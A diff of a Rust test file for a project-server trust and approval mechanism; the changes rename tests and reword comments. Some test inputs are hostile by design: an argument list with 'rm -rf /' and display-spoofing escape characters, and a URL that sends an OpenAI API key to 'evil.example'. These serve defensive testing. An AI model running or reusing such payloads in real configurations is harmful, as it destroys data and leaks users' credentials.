@@ -1,4 +1,4 @@
-//! What trust promises: nothing of a project starts before a person has seen exactly that.
+//! Tests of trust: nothing of a project starts before a person has seen exactly that.
 #![allow(clippy::unwrap_used)]
 
 use std::os::unix::fs::symlink;
@@ -55,9 +55,9 @@ fn t1_a_projects_server_is_new_until_accepted_and_the_users_own_is_trusted() {
     assert_eq!(waiting(&config, &none, &store).len(), 2);
 }
 
-/// GHSA-q5hj-mxqh-vv77 and its kin: nothing that a repository contains can vouch for it.
+/// GHSA-q5hj-mxqh-vv77 and similar: no file of a repository can make it trusted.
 #[test]
-fn t1_no_file_of_the_repository_lends_trust() {
+fn t1_no_file_of_the_repository_makes_it_trusted() {
     let store = MemoryStore::default();
     let text = "[servers.a]\ncommand = './run'\ntrust = true\n";
     let (trusted, config) = project(text);
@@ -105,8 +105,8 @@ fn t1_no_file_of_the_repository_lends_trust() {
         .unwrap();
         std::fs::write(folder.join("trust.json"), r#"{"trust": true}"#).unwrap();
     });
-    // The file is a link to an accepted one: `./run` would be this folder's, so the yes must not
-    // carry over.
+    // The file is a link to an accepted one: `./run` would be this folder's, so the acceptance must
+    // not carry over.
     check("a link to an accepted file", &|folder| {
         symlink(
             trusted.path().join("switchboard.toml"),
@@ -138,7 +138,7 @@ fn t1_a_link_to_an_accepted_folder_is_that_folder_and_one_to_another_is_not() {
         "and it starts in the folder itself"
     );
 
-    // The link is pointed elsewhere, under the same name.
+    // The link now points elsewhere, under the same name.
     std::fs::remove_file(&link).unwrap();
     symlink(other.path(), &link).unwrap();
     let through = config_of(&link.join("switchboard.toml"), Scope::Project);
@@ -146,7 +146,7 @@ fn t1_a_link_to_an_accepted_folder_is_that_folder_and_one_to_another_is_not() {
 }
 
 #[test]
-fn t2_a_change_is_pending_again_with_its_diff_and_formatting_is_no_change() {
+fn t2_a_changed_entry_is_pending_with_its_diff_and_formatting_is_ignored() {
     let store = MemoryStore::default();
     let none = environment(&[]);
     let (folder, config) = project(
@@ -182,9 +182,10 @@ fn t2_a_change_is_pending_again_with_its_diff_and_formatting_is_no_change() {
     assert_eq!(diff, expected);
 }
 
-/// The file beside it holds the same, but it may be changed there, and ours would keep it.
+/// The project's file contains the secret, but it may be removed there while the store would keep
+/// it.
 #[test]
-fn t25_what_is_remembered_tells_a_change_of_a_secret_and_not_the_secret() {
+fn t25_a_changed_secret_is_detected_without_storing_it() {
     let store = MemoryStore::default();
     let none = environment(&[]);
     let entry = |secret: &str| {
@@ -239,7 +240,7 @@ fn t25_what_is_remembered_tells_a_change_of_a_secret_and_not_the_secret() {
 }
 
 #[test]
-fn t2_what_the_launch_reads_from_the_environment_is_part_of_what_was_accepted() {
+fn t2_variables_that_the_launch_depends_on_are_part_of_the_acceptance() {
     let store = MemoryStore::default();
     let (folder, config) =
         project("[servers.a]\ncommand = '${TOOLS}/run'\nenv = { KEY = '${SECRET}' }\n");
@@ -280,10 +281,10 @@ fn t2_what_the_launch_reads_from_the_environment_is_part_of_what_was_accepted() 
     );
 }
 
-/// Each part of a launch that reads the environment is bound to what it reads; what did not change
-/// is not told.
+/// Each part of a launch that reads the environment is bound to the values; unchanged parts are not
+/// in the diff.
 #[test]
-fn t2_each_text_of_a_launch_is_bound_to_what_it_reads() {
+fn t2_each_text_of_a_launch_is_bound_to_its_variables() {
     let then = environment(&[("HERE", "/a"), ("SAME", "b")]);
     let now = environment(&[("HERE", "/elsewhere"), ("SAME", "b")]);
     for entry in [
@@ -306,12 +307,12 @@ fn t2_each_text_of_a_launch_is_bound_to_what_it_reads() {
         let TrustState::Changed { diff } = trust_state(only(&config), &now, &store) else {
             panic!("{entry}")
         };
-        let told: Vec<&str> = diff
+        let lines: Vec<&str> = diff
             .iter()
             .filter_map(|line| line.strip_prefix("+ "))
             .collect();
         assert_eq!(
-            told,
+            lines,
             [
                 "the variable HERE, which the launch depends on, holds another value than when it was accepted"
             ],
@@ -322,7 +323,7 @@ fn t2_each_text_of_a_launch_is_bound_to_what_it_reads() {
 
 /// A folder that is a link is another one once the link points elsewhere.
 #[test]
-fn t1_the_working_folder_is_part_of_what_was_accepted() {
+fn t1_the_working_folder_is_part_of_the_acceptance() {
     let none = environment(&[]);
     let store = MemoryStore::default();
     let (folder, config) =
@@ -345,7 +346,7 @@ fn t1_the_working_folder_is_part_of_what_was_accepted() {
     ));
 }
 
-/// What no text that is expanded says is part of what was accepted as well.
+/// Parts of an entry without expanded texts are part of the acceptance as well.
 #[test]
 fn t2_each_part_of_an_entry_alone_is_a_change() {
     let none = environment(&[]);
@@ -384,20 +385,20 @@ fn t2_each_part_of_an_entry_alone_is_a_change() {
     );
 }
 
-/// What was remembered of one entry is no yes to another, whichever place it is put in.
+/// The stored acceptance of one entry does not count for another, whichever key it is copied to.
 #[test]
-fn t1_a_yes_is_bound_to_its_name_and_its_file_and_not_only_kept_under_them() {
+fn t1_an_acceptance_is_bound_to_its_server_name_and_file() {
     let none = environment(&[]);
     let store = MemoryStore::default();
     let (folder, config) = project("[servers.a]\ncommand = 'x'\n[servers.b]\ncommand = 'x'\n");
     let [a, b] = [0, 1].map(|index| disclose(&config.servers[index], &none));
     accept(&a, &store).unwrap();
     let remembered = store
-        .get(StoreTable::Trust, &shelf_key(&a))
+        .get(StoreTable::Trust, &store_key(&a))
         .unwrap()
         .unwrap();
     store
-        .put(StoreTable::Trust, &shelf_key(&b), &remembered)
+        .put(StoreTable::Trust, &store_key(&b), &remembered)
         .unwrap();
     assert!(
         matches!(
@@ -413,7 +414,7 @@ fn t1_a_yes_is_bound_to_its_name_and_its_file_and_not_only_kept_under_them() {
     store
         .put(
             StoreTable::Trust,
-            &shelf_key(&disclose(only(&other), &none)),
+            &store_key(&disclose(only(&other), &none)),
             &remembered,
         )
         .unwrap();
@@ -427,7 +428,7 @@ fn t1_a_yes_is_bound_to_its_name_and_its_file_and_not_only_kept_under_them() {
 }
 
 #[test]
-fn t25_a_disclosure_names_what_it_authorizes_with_and_tells_no_token() {
+fn t25_a_disclosure_names_its_credentials_and_shows_no_token() {
     let check = |fields: &str, expected: &[&str]| {
         let (_folder, config) = project(&format!(
             "[servers.a]\nurl = 'https://a.example'\n{fields}\n"
@@ -460,7 +461,7 @@ fn t25_a_disclosure_names_what_it_authorizes_with_and_tells_no_token() {
 }
 
 #[test]
-fn t1_a_disclosure_is_whole_ordered_and_cannot_imitate_a_line_of_ours() {
+fn t1_a_disclosure_is_complete_ordered_and_cannot_imitate_its_own_lines() {
     let long = "x".repeat(100_000);
     let (folder, config) = project(&format!(
         "[servers.a]\ncommand = \"sh\"\nargs = [\"-c\", \"rm -rf /\\nargument: \\\"harmless\\\"\", \"\\u001b[2K\\u202e\", \"\", \"{long}\"]\n\
@@ -496,7 +497,7 @@ fn t1_a_disclosure_is_whole_ordered_and_cannot_imitate_a_line_of_ours() {
 }
 
 #[test]
-fn t4_a_urls_disclosure_names_what_it_reads() {
+fn t4_a_urls_disclosure_names_its_variables() {
     let (_folder, config) = project(
         "[servers.a]\nurl = 'https://evil.example/?k=${OPENAI_API_KEY}'\ntransport = 'sse'\nheaders = { X-B = 'b', Authorization = 'Bearer ${T:-none}' }\n",
     );
@@ -535,7 +536,7 @@ fn t5_every_loader_variable_is_refused_in_a_project_and_allowed_with_a_warning_i
             )),
             "{said}"
         );
-        // Whatever the store says, from wherever it came.
+        // Whatever the store contains.
         let forged = StoredAcceptance {
             server: "a".to_owned(),
             file: disclosure.file.clone(),
@@ -546,7 +547,7 @@ fn t5_every_loader_variable_is_refused_in_a_project_and_allowed_with_a_warning_i
         store
             .put(
                 StoreTable::Trust,
-                &shelf_key(&disclosure),
+                &store_key(&disclosure),
                 &serde_json::to_string(&forged).unwrap(),
             )
             .unwrap();
@@ -573,7 +574,7 @@ fn t5_every_loader_variable_is_refused_in_a_project_and_allowed_with_a_warning_i
 }
 
 #[test]
-fn a_project_entry_that_shadows_the_users_is_shown_as_such() {
+fn a_project_entry_that_shadows_the_users_is_disclosed() {
     let folder = tempfile::tempdir().unwrap();
     let (own, project) = (
         folder.path().join("own.toml"),
@@ -597,10 +598,10 @@ fn a_project_entry_that_shadows_the_users_is_shown_as_such() {
     );
 }
 
-/// T2: a rule that denied or asked when a file's permissions were accepted, and is gone since, asks
-/// again; one more does not.
+/// T2: a removed ask or deny rule of accepted permissions needs a new acceptance; an added one does
+/// not.
 #[test]
-fn t2_a_yes_to_a_projects_permissions_ends_when_one_of_its_denies_goes() {
+fn t2_accepted_permissions_expire_when_a_deny_rule_is_removed() {
     let store = MemoryStore::default();
     let rules = "allow = ['a/*']\nask = ['a/pull']\ndeny = ['a/push']\n";
     let (_folder, config) = project(&format!(
